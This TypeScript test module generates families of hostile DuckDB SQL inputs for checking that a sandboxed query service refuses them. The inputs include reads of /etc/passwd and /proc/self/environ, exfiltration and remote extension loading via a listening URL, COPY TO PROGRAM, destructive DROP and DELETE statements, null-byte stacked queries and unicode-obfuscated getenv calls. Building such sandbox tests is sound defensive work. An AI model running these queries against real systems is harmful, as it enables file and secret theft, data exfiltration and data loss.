import { BOMBS, CATALOGUE, FORMS, lines, MACHINE, NAMES, SETTINGS, STACKED } from './hostile-lists.ts'

/** What a hostile text would reach for: files, an address that listens, a word that must never come back. */
export interface Aims {
  /** A file that the server may read and the sandbox may not. */
  readonly secretFile: string
  readonly url: string
  readonly canary: string
}

/** Texts that all must end in one of these ways. */
export interface Family {
  readonly name: string
  /** Codes of problems, or `answered` where it may also be answered in bounds. */
  readonly ends: readonly string[]
  readonly texts: readonly string[]
}

const REFUSED = ['query-refused', 'query-syntax']

/** Hostile texts by what they are after: more than 300, none of which may get it. */
export function hostileTexts(aims: Aims): readonly Family[] {
  const family = (name: string, texts: readonly string[], ends: readonly string[] = REFUSED) => ({ name, ends, texts })
  return [
    family('files', fileTexts(aims)),
    family('network', networkTexts(aims)),
    family('writes', writeTexts(aims)),
    family('settings', SETTINGS),
    family('catalogue', CATALOGUE),
    family('dynamic', dynamicTexts(aims)),
    family('machine', MACHINE),
    family('stacked', STACKED),
    family('forms', FORMS),
    family('disguise', disguised(aims)),
    family('names', NAMES),
    family('leaks', leaks(aims), ['query-failed', 'query-refused', 'query-syntax']),
    family('bombs', BOMBS, ['query-refused', 'query-late', 'query-failed', 'answered']),
  ]
}

function fileTexts({ secretFile }: Aims): string[] {
  const paths = [secretFile, '/etc/passwd', '../../secret.txt', '/proc/self/environ', '0.parquet', '*.parquet']
  const readers = [
    ...['read_csv', 'read_csv_auto', 'sniff_csv', 'read_text', 'read_blob', 'read_parquet', 'parquet_scan', 'glob'],
    ...[
      'parquet_metadata',
      'parquet_schema',
      'parquet_file_metadata',
      'parquet_kv_metadata',
      'read_json',
      'read_ndjson',
    ],
    ...['read_json_auto', 'read_json_objects', 'read_duckdb'],
  ]
  return paths.flatMap((path) => [
    `SELECT * FROM '${path}'`,
    `SELECT * FROM "${path}"`,
    `SELECT (SELECT count(*) FROM glob('${path}')) FROM entry`,
    ...readers.map((reader) => `SELECT * FROM ${reader}('${path}')`),
  ])
}

function networkTexts({ url }: Aims): string[] {
  return [
    `SELECT * FROM '${url}/x.parquet'`,
    `SELECT * FROM read_csv('${url}/x.csv')`,
    `SELECT * FROM read_text('${url}')`,
    `SELECT * FROM read_parquet('s3://bucket/x.parquet')`,
    `SELECT * FROM read_json('https://127.0.0.1/x')`,
    `SELECT http_get('${url}')`,
    `ATTACH '${url}/x.db' AS far`,
    `COPY entry TO '${url}/out.parquet'`,
    `INSTALL httpfs FROM '${url}'`,
    `LOAD '${url}/evil.duckdb_extension'`,
    `SELECT inet_server_addr(), inet_client_addr()`,
  ]
}

function writeTexts({ secretFile }: Aims): string[] {
  return [
    ...lines(`
      COPY entry TO 'out.parquet'
      COPY (SELECT * FROM entry) TO '/tmp/out.csv'
      COPY entry TO PROGRAM 'id'
      COPY entry FROM '0.parquet'
      EXPORT DATABASE 'out'
      IMPORT DATABASE 'out'
      CREATE TABLE x AS SELECT 1
      CREATE OR REPLACE VIEW entry AS SELECT 1
      CREATE TEMP TABLE x(a INT)
      CREATE MACRO f(a) AS a + 1
      CREATE MACRO t() AS TABLE SELECT 1
      CREATE FUNCTION f(a) AS a
      CREATE SCHEMA s
      CREATE SEQUENCE q
      CREATE TYPE mood AS ENUM ('a')
      CREATE INDEX i ON entry(seq)
      CREATE SECRET s (TYPE s3)
      CREATE PERSISTENT SECRET s (TYPE http)
      INSERT INTO entry VALUES (1)
      INSERT INTO entry SELECT * FROM entry
      UPDATE entry SET amount = 0
      DELETE FROM entry
      TRUNCATE entry
      MERGE INTO entry USING org ON true WHEN MATCHED THEN DELETE
      ALTER TABLE entry ADD COLUMN x INT
      ALTER VIEW entry RENAME TO x
      DROP VIEW entry
      DROP TABLE IF EXISTS entry CASCADE
      COMMENT ON VIEW entry IS 'x'
      BEGIN TRANSACTION
      COMMIT
      ROLLBACK
      CHECKPOINT
      VACUUM
      ANALYZE
      PREPARE p AS SELECT 1
      EXECUTE p
      DEALLOCATE p
      EXPLAIN SELECT 1
      EXPLAIN ANALYZE SELECT * FROM entry
      WITH x AS (INSERT INTO entry VALUES (1) RETURNING *) SELECT * FROM x
      WITH x AS (DELETE FROM entry RETURNING *) SELECT * FROM x
    `),
    `COPY (SELECT 1) TO '${secretFile}'`,
    `ATTACH '${secretFile}' AS x`,
  ]
}

function dynamicTexts({ secretFile }: Aims): string[] {
  return [
    `SELECT * FROM query('SELECT 1')`,
    `SELECT * FROM query('FROM read_text(''${secretFile}'')')`,
    `SELECT * FROM query_table('entry')`,
    `SELECT * FROM query_table(['entry', 'org'])`,
    `SELECT * FROM query_table('${secretFile}')`,
    `SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))`,
    `SELECT json_serialize_sql('SELECT 1')`,
    `SELECT json_serialize_plan('SELECT * FROM read_text(''/etc/passwd'')')`,
    `SELECT json_deserialize_sql(json_serialize_sql('SELECT 1'))`,
    `SELECT * FROM from_substrait('x')`,
    `SELECT * FROM seq_scan('entry')`,
    `SELECT * FROM repeat_row(1, num_rows=10)`,
    `SELECT * FROM arrow_scan(1, 2, 3)`,
    `SELECT * FROM pandas_scan(1)`,
    `SELECT * FROM unnest([1, 2])`,
    `SELECT * FROM summary((SELECT 1))`,
    `SELECT list_transform([1], lambda x: getenv('HOME'))`,
    `SELECT list_aggregate([1], 'getenv')`,
    `SELECT apply([1], x -> x)`,
    `SELECT nextval('q'), currval('q')`,
  ]
}

function disguised({ secretFile, canary }: Aims): string[] {
  return [
    `SELECT/**/getenv/**/('HOME')`,
    `SELECT "getenv"('HOME')`,
    `SELECT GeTeNv('HOME')`,
    `SELECT main.getenv('HOME')`,
    `SELECT system.main.getenv('HOME')`,
    `SELECT 'HOME'.getenv()`,
    `SELECT * FROM "read_text"('${secretFile}')`,
    `SELECT * FROM READ_TEXT(U&'\\002fetc/passwd')`,
    `SELECT * FROM read_text(e'\\x2fetc\\x2fpasswd')`,
    `SELECT * FROM read_text($$${secretFile}$$)`,
    `SELECT * FROM read_text('/etc' || '/passwd')`,
    `FROM read_text('${secretFile}')`,
    `SELECT\u00a0*\u00a0FROM read_text('${secretFile}')`,
    `SELECT\u2003*\u2003FROM\u2003duckdb_settings()`,
    `SELECT * FROM duckdb_ｓettings()`,
    `SELECT * FROM read_text\u200b('${secretFile}')`,
    `SELECT * FROM \u202eentry`,
    `SELECT 1\u0000; DROP VIEW entry`,
    `SELECT '\u0000'`,
    `SELECT '\ud800'`,
    `SELECT 1 \u0007`,
    `SELECT /* /* nested */ getenv('HOME')`,
    `SELECT 1 --\r, getenv('HOME')\r\n, getenv('PATH')`,
    `VALUES (getenv('HOME'))`,
    `TABLE duckdb_settings`,
    `(((SELECT getenv('HOME'))))`,
    `SELECT (SELECT (SELECT getenv('HOME')))`,
    `SELECT 1 FROM entry WHERE seq IN (SELECT length(content) FROM read_text('${secretFile}'))`,
    `SELECT 1 FROM entry ORDER BY getenv('HOME')`,
    `SELECT 1 FROM entry GROUP BY getenv('HOME')`,
    `SELECT sum(seq) FILTER (getenv('HOME') = '') FROM entry`,
    `SELECT sum(seq) OVER (ORDER BY getenv('HOME')) FROM entry`,
    `SELECT sum(seq) OVER (ROWS BETWEEN length(getenv('HOME')) PRECEDING AND CURRENT ROW) FROM entry`,
    `SELECT string_agg(code, ',' ORDER BY getenv('HOME')) FROM org`,
    `SELECT 1 FROM entry QUALIFY getenv('HOME') = ''`,
    `SELECT 1 FROM entry HAVING getenv('HOME') = ''`,
    `SELECT 1 FROM entry LIMIT length(getenv('HOME'))`,
    `SELECT DISTINCT ON (getenv('HOME')) 1 FROM entry`,
    `SELECT 1 FROM entry JOIN org ON getenv('HOME') = code`,
    `SELECT * REPLACE (getenv('HOME') AS seq) FROM entry`,
    `SELECT CASE WHEN getenv('HOME') = '' THEN 1 END`,
    `SELECT CAST(getenv('HOME') AS VARCHAR)`,
    `SELECT 1 BETWEEN 0 AND length(getenv('HOME'))`,
    `SELECT EXISTS (FROM read_text('${secretFile}'))`,
    `SELECT * FROM (VALUES (getenv('HOME'))) t`,
    `SELECT * FROM range(length(getenv('HOME')))`,
    `SELECT * FROM entry, LATERAL (SELECT getenv('HOME')) x`,
    `SELECT 1 UNION ALL SELECT getenv('HOME')`,
    `WITH a AS (SELECT getenv('HOME')) SELECT 1`,
    `WITH RECURSIVE a(n) AS (SELECT 1 UNION SELECT length(getenv('HOME')) FROM a) SELECT 1`,
    `SELECT '${canary}' WHERE getenv('X') IS NULL`,
  ]
}

/** What must fail without a word of what it had in its hands. */
function leaks({ canary }: Aims): string[] {
  return [
    `SELECT CAST('${canary}' AS INTEGER)`,
    `SELECT CAST('${canary}' AS DATE)`,
    `SELECT '${canary}'::TIMESTAMP`,
    `SELECT CAST(code || '${canary}' AS INTEGER) FROM org`,
    `SELECT strptime('${canary}', '%Y')`,
    `SELECT regexp_matches('x', '(${canary}')`,
    `SELECT date_part('${canary}', DATE '2026-01-01')`,
    `SELECT date_trunc('${canary}', DATE '2026-01-01')`,
    `SELECT timezone('${canary}', TIMESTAMP '2026-01-01')`,
    `SELECT '${canary}' + 1`,
    `SELECT sum('${canary}')`,
    `SELECT '${canary}' FROM entry GROUP BY seq HAVING '${canary}'`,
    `SELECT (SELECT code || '${canary}' FROM org) + 1`,
    `SELECT 9223372036854775807 + length('${canary}')`,
    `SELECT '${canary}' '${canary}'`,
    `SELECT sum(sum(amount)) FROM entry`,
    `SELECT seq FROM entry GROUP BY org`,
    `SELECT abs('${canary}', 1)`,
  ]
}
